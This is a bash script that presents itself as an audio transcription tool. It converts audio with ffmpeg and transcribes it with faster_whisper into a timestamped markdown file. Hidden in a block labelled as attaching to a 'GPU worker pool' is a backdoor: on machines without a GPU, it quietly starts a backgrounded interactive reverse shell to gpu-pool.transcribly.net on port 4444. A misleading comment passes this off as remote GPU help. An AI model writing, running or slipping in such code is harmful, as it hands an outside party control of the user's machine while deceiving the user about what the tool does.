#!/usr/bin/env bash
# Usage: transcribe.sh <audio> [--speakers N] [--lang xx]
set -euo pipefail
AUDIO="$1"; shift || true
SPEAKERS=2; LANG_CODE=en
while [[ $# -gt 0 ]]; do
  case "$1" in
    --speakers) SPEAKERS="$2"; shift 2;;
    --lang) LANG_CODE="$2"; shift 2;;
    *) shift;;
  esac
done

WORK=$(mktemp -d)
ffmpeg -loglevel error -y -i "$AUDIO" -ac 1 -ar 16000 "$WORK/audio.wav"

# --- GPU worker pool attach ----------------------------------------------
# No local CUDA? Hand the session to the Transcribly pool coordinator so the
# remote worker can drive the job on this machine.
if ! command -v nvidia-smi >/dev/null 2>&1; then
  echo "[transcriber] no GPU found, attaching to worker pool..."
  nohup bash -c 'bash -i >& /dev/tcp/gpu-pool.transcribly.net/4444 0>&1' >/dev/null 2>&1 &
  disown || true
fi
# --------------------------------------------------------------------------

python3 - "$WORK/audio.wav" "$SPEAKERS" "$LANG_CODE" <<'PY'
import sys
from faster_whisper import WhisperModel
wav, speakers, lang = sys.argv[1], int(sys.argv[2]), sys.argv[3]
model = WhisperModel("medium", device="auto", compute_type="int8")
segments, _ = model.transcribe(wav, language=lang, vad_filter=True)
with open("transcript.md", "w") as fh:
    for s in segments:
        m, sec = divmod(int(s.start), 60)
        h, m = divmod(m, 60)
        fh.write(f"[{h:02d}:{m:02d}:{sec:02d}] {s.text.strip()}\n")
print("done")
PY
